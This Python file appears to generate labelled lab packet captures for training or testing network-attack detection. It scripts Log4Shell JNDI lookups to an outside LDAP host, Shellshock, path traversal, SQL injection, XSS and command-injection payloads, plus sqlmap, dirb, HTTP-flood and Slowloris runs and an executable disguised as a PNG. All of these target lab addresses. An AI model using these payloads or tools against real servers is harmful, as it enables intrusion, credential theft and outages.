"""Attacks on web servers and what wears them out; a documentation site with the same words; downloads, weak TLS, and names that bite."""

import pathlib
import random
import time

import services
from lab import LAB, Capture, Lab, sh
from office import Office
from registry import Sample, scene

WEB = '10.20.0.10'
ATTACKS = [
    ('-A', '${jndi:ldap://10.66.66.66:1389/a}', '/'),
    ('-H', 'X-Api-Version: ${${lower:j}ndi:${lower:l}dap://10.66.66.66/x}', '/api/orders'),
    ('-A', '() { :;}; /bin/cat /etc/passwd', '/cgi-bin/status'),
    ('--path-as-is', '', '/../../../../etc/passwd'),
    ('--path-as-is', '', '/static/..%2f..%2f..%2f..%2fetc%2fpasswd'),
    ('', '', "/products.json?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20"),
    ('', '', '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'),
    ('', '', '/ping?host=127.0.0.1;cat%20/etc/passwd'),
    ('', '', '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'),
]


@scene(Sample(
    'web-attacks.pcap', 'A kiosk tries the well-known attacks on a web server, by hand with curl.',
    'Log4Shell (plain and disguised), Shellshock, two path traversals, SQL injection, cross-site scripting, a command injection and Spring4Shell; the server answers 200, 400, 403 or 404 to all of them.',
    ['`exploit-attempt` by 192.168.10.24: Log4Shell, Shellshock, path traversal, SQL injection (ATT&CK T1190)', 'no `port-scan`, no `brute-force`, no `web-shell`'],
    ['http.request | what was asked for', 'http.user_agent contains "jndi" | Log4Shell']))
def web_attacks(lab: Lab) -> None:
    office = Office(lab, ('kiosk', 'alice'), ('web',), delay_ms=2)
    services.web(office.web)
    with Capture(office.switch, 'web-attacks.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run('curl', '-s', '-o', '/dev/null', 'http://www.example.com/about.html')
        for option, value, path in ATTACKS:
            office.kiosk.run('curl', '-s', '-o', '/dev/null', *[part for part in (option, value) if part], f'http://{WEB}{path}')


@scene(Sample(
    'attack-handbook.pcap', 'alice reads a page about attacks: the same words, in a page body and in her own notes. Near miss of exploit attempts.',
    'Three pages that quote Log4Shell, SQL injection, path traversal and shell commands in their text, and a search for the word "jndi".',
    ['no `exploit-attempt`: the words come from the server, in documentation', 'no `web-shell`, no `ai-prompt-injection`'],
    ['http.response | pages', 'http.request.uri contains "jndi" | her search']))
def attack_handbook(lab: Lab) -> None:
    office = Office(lab, ('alice',), ('web',), delay_ms=2)
    services.web(office.web)
    root = LAB / 'www/intranet.example.test'
    for n, text in enumerate(['Attackers send ${jndi:ldap://evil.example/a} in a header. Update log4j.', "Never build queries from text: ' UNION SELECT password FROM users -- is what they try.",
                              'A path such as ../../../../etc/passwd must not leave the folder. Neither must ;cat /etc/passwd reach a shell. &lt;script&gt;alert(1)&lt;/script&gt; is the usual test.']):
        (root / f'chapter{n}.html').write_text(f'<!doctype html><title>Handbook</title><p>{services.prose(200, n)}</p><pre>{text}</pre>\n')
    sh('chmod', '-R', 'a+rX', str(root))
    with Capture(office.switch, 'attack-handbook.pcap', 'tcpdump', '-i', 'br0'):
        for n in range(3):
            office.alice.run('curl', '-s', '-o', '/dev/null', '-A', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', f'http://intranet.example.test/chapter{n}.html')
        office.alice.run('curl', '-s', '-o', '/dev/null', '-A', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'http://intranet.example.test/index.html?q=what+is+jndi')


@scene(Sample(
    'sqlmap.pcap', 'sqlmap looks for an injection in one parameter of a web page.',
    'sqlmap with its default user agent and few tests; the page knows no SQL and answers the same each time.',
    ['`exploit-attempt`: SQL injection by 192.168.10.24', '`scanner-software`: sqlmap, by its user agent', 'no other attacker'],
    ['http.user_agent contains "sqlmap" | sqlmap says its name']))
def sqlmap(lab: Lab) -> None:
    office = Office(lab, ('kiosk',), ('web',), delay_ms=1)
    services.web(office.web)
    with Capture(office.switch, 'sqlmap.pcap', 'tcpdump', '-i', 'br0', '-c', '900'):
        office.kiosk.run('env', f'HOME={lab.folder}', 'sqlmap', '--batch', '--flush-session', '--disable-coloring', '--technique=BEU', '--level=1', '--timeout=4', '--retries=0', '-u',
                         'http://www.example.com/about.html?id=1', timeout=80, show='sqlmap --batch --technique=BEU --level=1 -u http://www.example.com/about.html?id=1')


@scene(Sample(
    'dirb.pcap', 'dirb asks for 200 paths that might be there.',
    'Path after path within seconds; four exist, the rest is answered 404.',
    ['`service-enumeration`: a storm of 404 answers for 192.168.10.24 (ATT&CK T1595.003)', 'no `brute-force`, no `http-flood`'],
    ['http.response.code == 404 | nothing there', 'http.request.method == "GET" | what dirb asks for']))
def dirb(lab: Lab) -> None:
    office = Office(lab, ('kiosk',), ('web',), delay_ms=1)
    services.web(office.web)
    words = lab.folder / 'words.txt'
    words.write_text('\n'.join([*services.WORDS, *(f'{w}{n}' for n in range(8) for w in services.WORDS), 'about.html', 'logo.png', 'admin', 'backup', '.git', 'index.html']) + '\n')
    with Capture(office.switch, 'dirb.pcap', 'tcpdump', '-i', 'br0'):
        office.kiosk.run('dirb', 'http://www.example.com/', str(words), '-r', '-S', '-w', timeout=60, show='dirb http://www.example.com/ words.txt -r -S')


@scene(Sample(
    'http-flood.pcap.gz', 'ab (ApacheBench) asks a web server for the same page 1,500 times, twenty at once.',
    'Fifteen hundred requests over kept-alive connections within seconds, each answered with a line.',
    ['`http-flood`: 192.168.10.24 against 10.20.0.10 (ATT&CK T1499.002)', 'no `port-scan`, no `beaconing`, no `syn-flood`: every connection is completed'],
    ['http.request | the same page, again and again']))
def http_flood(lab: Lab) -> None:
    office = Office(lab, ('kiosk',), ('web',), delay_ms=1)
    services.web(office.web)
    with Capture(office.switch, 'http-flood.pcap', 'tcpdump', '-i', 'br0'):
        office.kiosk.run('ab', '-q', '-k', '-n', '1500', '-c', '20', 'http://www.example.com/api/orders', timeout=60)
    lab.commands.append('switch$ gzip -9n http-flood.pcap')
    sh('gzip', '-9n', str(lab.folder / 'http-flood.pcap'))


@scene(Sample(
    'slow-headers.pcap', 'slowhttptest (Slowloris) opens sixty connections to a web server and never finishes a request.',
    'Sixty connections, a header line every four seconds on each, for half a minute.',
    ['`slow-dos`: 192.168.10.24 against 10.20.0.10 (ATT&CK T1499.002)', 'no `syn-flood`, no `port-scan`'],
    ['tcp.len > 0 && ip.src == 192.168.10.24 | a line now and then', 'tcp.flags.syn == 1 && tcp.flags.ack == 0 | sixty connections']))
def slow_headers(lab: Lab) -> None:
    office = Office(lab, ('kiosk', 'alice'), ('web',), delay_ms=1)
    services.web(office.web)
    with Capture(office.switch, 'slow-headers.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run('curl', '-s', '-o', '/dev/null', 'http://www.example.com/about.html')
        office.kiosk.run('slowhttptest', '-H', '-c', '60', '-r', '30', '-i', '4', '-l', '28', '-u', 'http://www.example.com/', timeout=60)


@scene(Sample(
    'executable-download.pcap', 'A kiosk fetches a program over plain HTTP, under the name of a picture.',
    'An ELF program of a few dozen kilobytes as /holiday.png (image/png), a shell script, and an ordinary picture.',
    ['`executable-download`: holiday.png is a program (ATT&CK T1105)'],
    ['http.response.code == 200 | three files']))
def executable_download(lab: Lab) -> None:
    office = Office(lab, ('kiosk',), ('web',), delay_ms=2)
    services.web(office.web)
    root = LAB / 'www/www.example.com'
    (root / 'holiday.png').write_bytes(pathlib.Path('/bin/true').read_bytes())
    (root / 'setup.sh').write_text('#!/bin/sh\nset -e\necho installing\n')
    sh('chmod', '-R', 'a+rX', str(root))
    with Capture(office.switch, 'executable-download.pcap', 'tcpdump', '-i', 'br0'):
        for name in ('photo.png', 'holiday.png', 'setup.sh'):
            office.kiosk.run('curl', '-s', '-o', '/dev/null', f'http://www.example.com/{name}')


@scene(Sample(
    'weak-tls.pcap', 'Old TLS as far as Debian\'s OpenSSL still speaks it: TLS 1.0 and 1.1 chosen by the server, no authentication at all, and certificates that are expired, self-signed, weak or for another name.',
    'Six openssl s_server with one openssl s_client each (security level 0): TLS 1.0, TLS 1.1, anonymous DH, an expired, a self-signed RSA-1024 and a SHA-1 certificate; then TLS 1.3 done properly.',
    ['`weak-tls`: TLS 1.0 (port 8001), TLS 1.1 (8002), no authentication (8003)', '`bad-certificate`: expired (8004), self-signed and self-signed (8005), self-signed (8006; its SHA-1 signature proves nothing anyway)'],
    ['tls.handshake.type == 2 | what the servers chose', 'tls.handshake.type == 11 | certificates (not under TLS 1.3)']))
def weak_tls(lab: Lab) -> None:
    office = Office(lab, ('alice',), ('files',), delay_ms=1)
    chain, key, _ = services.certificate(LAB / 'tls-good', ['files.example.com'])
    folder = LAB / 'tls-bad'
    folder.mkdir(exist_ok=True)
    configuration = folder / 'legacy.cnf'
    configuration.write_text('openssl_conf = one\n[one]\nssl_conf = two\n[two]\nsystem_default = three\n[three]\nMinProtocol = TLSv1\nCipherString = ALL:@SECLEVEL=0\n')

    def bad(name: str, *options: str, algorithm: str = 'rsa:2048') -> tuple[str, str]:
        sh('openssl', 'req', '-x509', '-newkey', algorithm, '-nodes', '-keyout', f'{folder}/{name}.key', '-out', f'{folder}/{name}.pem', *options)
        return f'{folder}/{name}.pem', f'{folder}/{name}.key'
    sh('openssl', 'req', '-newkey', 'rsa:2048', '-nodes', '-keyout', f'{folder}/old.key', '-out', f'{folder}/old.csr', '-subj', '/O=Example Lab/CN=files.example.com')
    for file in ('index.txt', 'index.txt.attr'):
        (folder / file).write_text('')
    (folder / 'ca.cnf').write_text(f'[ca]\ndefault_ca=lab\n[lab]\ndatabase={folder}/index.txt\nnew_certs_dir={folder}\nserial={folder}/serial\ndefault_md=sha256\npolicy=any\n[any]\nO=optional\nCN=supplied\n')
    (folder / 'serial').write_text('1001\n')
    sh('openssl', 'ca', '-batch', '-config', f'{folder}/ca.cnf', '-cert', f'{LAB}/tls-good/ca.pem', '-keyfile', f'{LAB}/tls-good/ca.key', '-in', f'{folder}/old.csr', '-out', f'{folder}/old.pem',
       '-startdate', '20240101000000Z', '-enddate', '20240401000000Z', '-notext')
    small, small_key = bad('small', '-days', '90', '-subj', '/CN=files.example.com', algorithm='rsa:1024')
    sha1, sha1_key = bad('sha1', '-days', '90', '-sha1', '-subj', '/O=Example Lab/CN=files.example.com')
    servers = [(8001, chain, key, ['-tls1']), (8002, chain, key, ['-tls1_1']), (8003, chain, key, ['-tls1_2', '-cipher', 'ADH-AES128-SHA256:@SECLEVEL=0']), (8004, f'{folder}/old.pem', f'{folder}/old.key', ['-tls1_2']),
               (8005, small, small_key, ['-tls1_2']), (8006, sha1, sha1_key, ['-tls1_2']), (8007, chain, key, ['-tls1_3'])]
    for port, certificate, private, options in servers:
        office.files.spawn('env', f'OPENSSL_CONF={configuration}', 'openssl', 's_server', '-quiet', '-www', '-accept', str(port), '-cert', certificate, '-key', private, *options,
                           show=f'openssl s_server -accept {port} {" ".join(options)}')
        office.files.wait_for_port(port)
    with Capture(office.switch, 'weak-tls.pcap', 'tcpdump', '-i', 'br0'):
        for port, _, _, options in servers:
            office.alice.run('env', f'OPENSSL_CONF={configuration}', 'openssl', 's_client', '-connect', f'10.20.0.20:{port}', '-servername', 'files.example.com', *options, stdin='',
                             show=f'openssl s_client -connect 10.20.0.20:{port} -servername files.example.com {" ".join(options)}')
